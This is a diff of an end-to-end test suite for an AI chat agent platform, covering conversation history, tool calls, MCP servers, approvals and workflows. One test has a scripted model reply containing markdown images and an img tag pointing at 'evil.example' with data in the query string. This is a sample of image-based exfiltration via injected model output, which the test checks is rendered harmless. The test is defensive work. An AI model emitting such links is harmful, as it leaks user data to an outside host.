@@ -3,7 +3,7 @@ import { newId } from '@app/common';
 import { EventStream } from '../support/event-stream.js';
 import { HttpClient } from '../support/http-client.js';
 import { type EverythingServer, startEverything } from '../support/mcp-everything.js';
-import { type HostedPlatform, hostPlatform } from '../support/hosted-platform.js';
+import { type HostedApp, type HostedPlatform, hostPlatform } from '../support/hosted-platform.js';
 import { inAll, LONG } from '../support/long.js';
 import { type Asked, type ScriptedAnswer, ScriptedLlm, withoutNotes } from '../support/scripted-llm.js';
 import { until } from '../support/until.js';
@@ -36,13 +36,14 @@ const approve = async (from: HttpClient) => {
 describe('the agent', () => {
   const llm = new ScriptedLlm();
   let platform: HostedPlatform;
+  let worker: HostedApp;
   let user: HttpClient;
   let everything: EverythingServer;
 
   beforeAll(async () => {
     [everything] = await Promise.all([startEverything('streamableHttp'), llm.start()]);
     platform = await hostPlatform(['api', 'indexer'], { ...llm.env, MCP_HOSTS: everything.host });
-    await platform.start('workflow-runner');
+    worker = await platform.host('workflow-runner');
     user = await HttpClient.signUp(platform.baseUrl);
   });
   afterAll(async () => {
@@ -96,7 +97,7 @@ describe('the agent', () => {
     expect((await ask('Second.', conversation)).answer).toBe('Messages: 3');
   });
 
-  it('knows what it had said when it was stopped', async () => {
+  inAll('knows what it had said when it was stopped', async () => {
     llm.answers(() => ({ text: 'Herons nest in colonies. '.repeat(40) }), { slowly: true });
     const conversation = { conversation_id: newId() };
     const asked = ask('Tell me of herons.', conversation);
@@ -113,24 +114,27 @@ describe('the agent', () => {
     expect(answer).toBe(`Before: Tell me of herons.|${stopped.answer}|Shorter, please.`);
   });
 
-  it('shows no pictures that would carry data out while they are read: not in the stream, not in the history', async () => {
-    const evil = 'https://evil.example/p?d=the-hotel-limit';
-    llm.answers(({ results }) =>
-      results.length === 0
-        ? { text: 'Look: ![plan][p]', calls: [{ name: 'code', arguments: { code: 'return 1;' } }] }
-        : { text: `[p]: ${evil}\n\n![x](${evil}) <img src="${evil}"> ![ours](/media/charts/a.png) [link](${evil})` },
-    );
-    const reply = await ask('What is the plan?');
-    const stream = new EventStream(`${platform.baseUrl}/microservices/chat-turns/${reply.turn_id}/events/`, user);
-    await stream.ended;
-    const streamed = stream.events.map(({ event, data }) => (event === 'delta' ? data.text : '')).join('');
-    const shown = `Look: [plan][p]\n\n[p]: ${evil}\n\n[x](${evil}) &lt;img src="${evil}"> ![ours](/media/charts/a.png) [link](${evil})`;
-    expect([streamed, reply.answer]).toEqual([shown, shown]);
-    const [row] = await sql<{ answer: string }[]>('SELECT answer FROM chat_turns WHERE id = $1', [reply.turn_id]);
-    expect(row!.answer).toBe(shown);
-  });
+  inAll(
+    'shows no pictures that would carry data out while they are read: not in the stream, not in the history',
+    async () => {
+      const evil = 'https://evil.example/p?d=the-hotel-limit';
+      llm.answers(({ results }) =>
+        results.length === 0
+          ? { text: 'Look: ![plan][p]', calls: [{ name: 'code', arguments: { code: 'return 1;' } }] }
+          : { text: `[p]: ${evil}\n\n![x](${evil}) <img src="${evil}"> ![ours](/media/charts/a.png) [link](${evil})` },
+      );
+      const reply = await ask('What is the plan?');
+      const stream = new EventStream(`${platform.baseUrl}/microservices/chat-turns/${reply.turn_id}/events/`, user);
+      await stream.ended;
+      const streamed = stream.events.map(({ event, data }) => (event === 'delta' ? data.text : '')).join('');
+      const shown = `Look: [plan][p]\n\n[p]: ${evil}\n\n[x](${evil}) &lt;img src="${evil}"> ![ours](/media/charts/a.png) [link](${evil})`;
+      expect([streamed, reply.answer]).toEqual([shown, shown]);
+      const [row] = await sql<{ answer: string }[]>('SELECT answer FROM chat_turns WHERE id = $1', [reply.turn_id]);
+      expect(row!.answer).toBe(shown);
+    },
+  );
 
-  it('names tools that are like one which it does not have', async () => {
+  inAll('names tools that are like one which it does not have', async () => {
     llm.answers(({ results }) =>
       results.length === 0 ? { calls: [{ name: 'read_documents', arguments: {} }] } : { text: `Told: ${results[0]}` },
     );
@@ -176,7 +180,7 @@ describe('the agent', () => {
     expect(read).toMatch(/^<<<DATA ([0-9a-f]{16}) [^]*<<<END \1$/);
   });
 
-  it('puts a short attachment before the question, with what it can be cited by', async () => {
+  inAll('puts a short attachment before the question, with what it can be cited by', async () => {
     const { uid } = await user.upload<{ uid: string }>(
       '/semantic-search/upload/',
       'path',
@@ -193,7 +197,7 @@ describe('the agent', () => {
     expect(reply).toMatchObject({ answer: 'It is heron [1].', sources: [{ citation: 1, uid, filename: 'word.txt' }] });
   });
 
-  it('shows attached pictures to a model that sees', async () => {
+  inAll('shows attached pictures to a model that sees', async () => {
     const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
     const { uid } = await user.upload<{ uid: string }>(
       '/semantic-search/upload/',
@@ -217,7 +221,7 @@ describe('the agent', () => {
     }
   });
 
-  it('takes a number that a form gives as text', async () => {
+  inAll('takes a number that a form gives as text', async () => {
     llm.answers(({ results }) => (results.length < 2 ? { calls: [call('get-sum', { a: 2 })] } : { text: results[1]! }));
     const server = { label: 'Everything', url: everything.url };
     const { id } = await user.post<{ id: number }>('/mcp-servers/servers/', server);
@@ -230,7 +234,7 @@ describe('the agent', () => {
     expect((await user.send('DELETE', `/mcp-servers/servers/${id}/`)).status).toBe(200);
   });
 
-  it('does not keep a plain chat waiting behind its question', async () => {
+  inAll('does not keep a plain chat waiting behind its question', async () => {
     llm.answers(({ results }) =>
       results.length === 0 ? { calls: [{ name: 'ask_user', arguments: { question: 'Which?' } }] } : { text: 'That.' },
     );
@@ -313,7 +317,7 @@ describe('the agent', () => {
     });
   });
 
-  it('uses the tools of connected servers, and asks before those that may do something', async () => {
+  inAll('uses the tools of connected servers, and asks before those that may do something', async () => {
     const server = await user.post<{ id: number }>('/mcp-servers/servers/', {
       label: 'Everything',
       url: everything.url,
@@ -347,7 +351,7 @@ describe('the agent', () => {
     });
   });
 
-  it('runs a workflow of its user, and nobody else’s', async () => {
+  inAll('runs a workflow of its user, and nobody else’s', async () => {
     const nodes = [{ id: 'out', kind: 'template', params: { template: 'Ready' } }];
     const { workflow_id: id } = await user.post<{ workflow_id: string }>('/microservices/workflow/start/', {
       json: { name: 'Morning report', nodes },
@@ -390,13 +394,14 @@ describe('the agent', () => {
         ? { text: told, calls: [{ name: 'send_email', arguments: { to, subject: 'Once', text: 'Hi' } }] }
         : { text: end };
     llm.answers(script, { slowly: true });
+    await worker.stop();
+    let runner = await platform.start('workflow-runner');
     const conversationId = newId();
     await sql(
       `INSERT INTO agent_approvals (user_id, key, summary) SELECT id, $2, 'Test' FROM users WHERE username = $1`,
       [user.username, `send_email:${to}`],
     );
     const answering = user.post<Reply>(CHAT, { conversation_id: conversationId, message: 'Mail and tell me.' });
-    let runner = platform.apps.find(({ name }) => name === 'workflow-runner')!;
     // In a short run behind the mail alone: chaos/turns.spec.ts kills one in the first text.
     const places = LONG ? [200, told.length + 200] : [told.length + 200];
     for (const [kill, atLeast] of places.entries()) {
@@ -429,7 +434,7 @@ describe('the agent', () => {
     return Object.fromEntries(rows.map((row) => [row.node_id, row]));
   };
 
-  it('is a node of workflows, with the tools that its author listed', async () => {
+  inAll('is a node of workflows, with the tools that its author listed', async () => {
     llm.answers(({ results }) =>
       results.length === 0
         ? { calls: [{ name: 'code', arguments: { code: 'return 6 * 7;' } }, call('echo', { message: 'heron' })] }
@@ -460,7 +465,7 @@ describe('the agent', () => {
     expect(odd).toMatchObject({ error: { code: 'unknown_tool' } });
   });
 
-  it('says of a tool whose server is out that it is, and not that there is none', async () => {
+  inAll('says of a tool whose server is out that it is, and not that there is none', async () => {
     await sql(`UPDATE mcp_servers SET status = 'error' WHERE user_id = (SELECT id FROM users WHERE username = $1)`, [
       user.username,
     ]);
